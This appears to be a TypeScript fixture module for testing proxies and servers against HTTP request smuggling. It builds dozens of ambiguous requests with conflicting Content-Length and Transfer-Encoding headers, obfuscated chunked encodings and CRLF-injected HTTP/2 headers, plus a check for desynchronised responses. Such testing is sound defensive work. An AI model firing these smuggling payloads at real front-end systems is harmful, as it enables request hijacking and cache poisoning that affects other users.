import { HOST } from './proxies.ts';

const HOST_LINE = `Host: ${HOST}\r\n`;
/** The request that an attacker hides in the body of another request. */
export const HIDDEN = `GET /release.json HTTP/1.1\r\n${HOST_LINE}\r\n`;
/** The request that follows on the same connection. */
export const FOLLOW_UP = `GET /robots.txt HTTP/1.1\r\n${HOST_LINE}Connection: close\r\n\r\n`;

const POST = `POST /csp-report HTTP/1.1\r\n${HOST_LINE}Content-Type: application/csp-report\r\n`;
const GET = `GET /health HTTP/1.1\r\n${HOST_LINE}`;
const CHUNKED = 'Transfer-Encoding: chunked';
const AFTER_CHUNKS = `0\r\n\r\n${HIDDEN}`;
const IN_CHUNK = `${HIDDEN.length.toString(16)}\r\n${HIDDEN}\r\n0\r\n\r\n`;
const SIZE_LINE = IN_CHUNK.indexOf('\r\n') + 2;

/** Header lines that only some servers read as "chunked". */
const DISGUISES: Record<string, string> = {
  'a plain header': CHUNKED,
  'a space before the colon': 'Transfer-Encoding : chunked',
  'a tab after the colon': 'Transfer-Encoding:\tchunked',
  'a vertical tab': 'Transfer-Encoding: \x0bchunked',
  'a null byte': 'Transfer-Encoding: chunked\0',
  'an unknown coding': 'Transfer-Encoding: xchunked',
  'two codings': 'Transfer-Encoding: chunked, identity',
  'two headers': 'Transfer-Encoding: chunked\r\nTransfer-Encoding: identity',
  'two headers, the last chunked': 'Transfer-Encoding: identity\r\nTransfer-Encoding: chunked',
  'quotation marks': 'Transfer-Encoding: "chunked"',
  'large letters': 'TRANSFER-ENCODING: CHUNKED',
  'an underscore': 'Transfer_Encoding: chunked',
  'a folded line': 'Transfer-Encoding:\r\n chunked',
  'a folded line before it': 'X-Line: 1\r\n Transfer-Encoding: chunked',
  'a bare LF before it': 'X-Line: 1\nTransfer-Encoding: chunked',
  'a bare CR before it': 'X-Line: 1\rTransfer-Encoding: chunked',
};

const withLength = (length: number | string, lines: string, body: string) =>
  `${POST}Content-Length: ${length}\r\n${lines}\r\n${body}`;
const chunked = (body: string) => `${POST}${CHUNKED}\r\n\r\n${body}`;
const lengths = (first: string, second: string) =>
  `${POST}Content-Length: ${first}\r\nContent-Length: ${second}\r\n\r\n${HIDDEN}`;
const upgrade = (protocol: string, line: string) =>
  `${GET}Connection: Upgrade\r\nUpgrade: ${protocol}\r\n${line}\r\n\r\n${HIDDEN}`;
const all = String(HIDDEN.length);

/** Requests by name. Two servers may disagree about where each request ends. */
export const AMBIGUOUS: Record<string, string> = {
  ...Object.fromEntries(
    Object.entries(DISGUISES).flatMap(([name, line]) => [
      [
        `a length and chunks, ${name}`,
        withLength(AFTER_CHUNKS.length, `${line}\r\n`, AFTER_CHUNKS),
      ],
      [`a short length and chunks, ${name}`, withLength(SIZE_LINE, `${line}\r\n`, IN_CHUNK)],
    ]),
  ),
  'two lengths': lengths('0', all),
  'two lengths, the last is zero': lengths(all, '0'),
  'two equal lengths': lengths(all, all),
  'a list of lengths': withLength(`0, ${all}`, '', HIDDEN),
  'a length with a sign': withLength(`+${all}`, '', HIDDEN),
  'a negative length': withLength(-1, '', HIDDEN),
  'a hexadecimal length': withLength(`0x${HIDDEN.length.toString(16)}`, '', HIDDEN),
  'a length with a space in it': withLength(`0 ${all}`, '', HIDDEN),
  'a length with a space before the colon': `${POST}Content-Length : ${all}\r\n\r\n${HIDDEN}`,
  'an empty length': withLength('', '', HIDDEN),
  'a length that is too large': withLength('18446744073709551617', '', HIDDEN),
  'a head with bare LF': withLength(0, '', '').replaceAll('\r\n', '\n') + HIDDEN,
  'a bare LF at the end of the head': `${POST}Content-Length: ${all}\r\n\n${HIDDEN}`,
  'a GET with a body': `${GET}Content-Length: ${all}\r\n\r\n${HIDDEN}`,
  'a GET with chunks': `${GET}${CHUNKED}\r\n\r\n${IN_CHUNK}`,
  'a chunk extension': chunked(`1;name=value\r\nx\r\n${AFTER_CHUNKS}`),
  'a chunk extension with a bare LF': chunked(
    `2;\nxx\r\n${all.length.toString(16)}\r\n0\r\n\r\n${HIDDEN}`,
  ),
  'a chunk extension with a bare CR': chunked(`2;a\rb\r\nxx\r\n${AFTER_CHUNKS}`),
  'a chunk size with a bare LF': chunked(`0\n\n${HIDDEN}`),
  'a chunk size with a prefix': chunked(`0x0\r\n\r\n${HIDDEN}`),
  'a chunk size with a sign': chunked(`-0\r\n\r\n${HIDDEN}`),
  'a chunk size with a space': chunked(`0 \r\n\r\n${HIDDEN}`),
  'a chunk size that is too large': chunked(`10000000000000000\r\n${AFTER_CHUNKS}`),
  'a chunk that is longer than its size': chunked(`1\r\nxyz\r\n${AFTER_CHUNKS}`),
  'a trailer with a length': chunked(`0\r\nContent-Length: ${all}\r\n\r\n${HIDDEN}`),
  'a trailer with a bare LF': chunked(`0\r\nX-Line: 1\n\n${HIDDEN}`),
  'chunks in HTTP/1.0': chunked(AFTER_CHUNKS).replace('HTTP/1.1', 'HTTP/1.0'),
  'a hop-by-hop length': withLength(HIDDEN.length, 'Connection: Content-Length\r\n', HIDDEN),
  'an expectation without a body': withLength(all, 'Expect: 100-continue\r\n', HIDDEN),
  'an upgrade to HTTP/2': upgrade('h2c', 'HTTP2-Settings: AAMAAABkAAQAAP__'),
  'an upgrade to WebSocket': upgrade('websocket', 'Sec-WebSocket-Version: 13'),
};

const POST_HTTP2 = { ':method': 'POST', ':path': '/csp-report' };

/** HTTP/2 requests by name. They are ambiguous if a proxy forwards them as HTTP/1.1. */
export const AMBIGUOUS_IN_HTTP2: Record<string, Record<string, string>> = {
  'a length of zero and a body': { ...POST_HTTP2, 'content-length': '0' },
  'a length that is too short': { ...POST_HTTP2, 'content-length': '1' },
  'a length with a line end': { ...POST_HTTP2, 'content-length': `0\r\n\r\n${HIDDEN}` },
  'a value with a line end': { ...POST_HTTP2, 'x-line': `1\r\n${CHUNKED}` },
  'a value with another request': { ...POST_HTTP2, 'x-line': `1\r\n\r\n${HIDDEN}` },
  'a path with another request': { ':path': `/health HTTP/1.1\r\n${HOST_LINE}\r\n${HIDDEN}` },
  'a method with another request': { ':method': `GET /health HTTP/1.1\r\n\r\n${HIDDEN}` },
};

/** Returns whether the follow-up request got the answer of the hidden request. */
export function isOutOfStep(received: string): boolean {
  const answers = received.split(/(?=HTTP\/1\.[01] \d{3} )/);
  const last = answers.at(-1) ?? '';
  return last.includes('"release"');
}
